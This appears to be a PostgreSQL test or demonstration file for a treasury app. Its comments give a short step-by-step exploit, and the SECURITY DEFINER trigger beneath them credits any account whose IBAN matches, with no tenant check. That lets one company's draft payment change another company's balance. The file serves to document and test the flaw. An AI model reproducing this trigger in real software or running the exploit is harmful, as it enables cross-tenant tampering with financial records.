-- A draft payment to the account number of another company changes the balance of that company's account.
-- about: book_internal, bank_accounts, payments
-- as: hf_treasury_app
-- exploit: SET tre.company_id = 'a0000000-0000-4000-8000-000000000001';
-- exploit: INSERT INTO tre.counterparties VALUES ('a0000000-0000-4000-8000-000000000001',
-- exploit: 'a0000000-0000-4000-8000-000000000009', 'x', 'BIR001');
-- exploit: INSERT INTO tre.payments (company_id, payment_no, account_id, counterparty_id, amount)
-- exploit: VALUES ('a0000000-0000-4000-8000-000000000001', 777, 'a0000000-0000-4000-8000-000000000003',
-- exploit: 'a0000000-0000-4000-8000-000000000009', 11);
-- exploit: SET tre.company_id = 'b0000000-0000-4000-8000-000000000001';
-- exploit: SELECT balance FROM tre.bank_accounts;
-- shows: 7011.00
-- A payment between two accounts of the group is booked at once on the receiving side.
CREATE FUNCTION tre.book_internal() RETURNS trigger
LANGUAGE plpgsql SECURITY DEFINER SET search_path = pg_catalog, pg_temp
AS $$
BEGIN
  UPDATE tre.bank_accounts a SET balance = a.balance + NEW.amount
  FROM tre.counterparties c
  WHERE c.company_id = NEW.company_id AND c.counterparty_id = NEW.counterparty_id AND a.iban = c.iban;
  RETURN NEW;
END
$$;
REVOKE ALL ON FUNCTION tre.book_internal() FROM PUBLIC;
CREATE TRIGGER book_internal AFTER INSERT ON tre.payments
  FOR EACH ROW EXECUTE FUNCTION tre.book_internal();
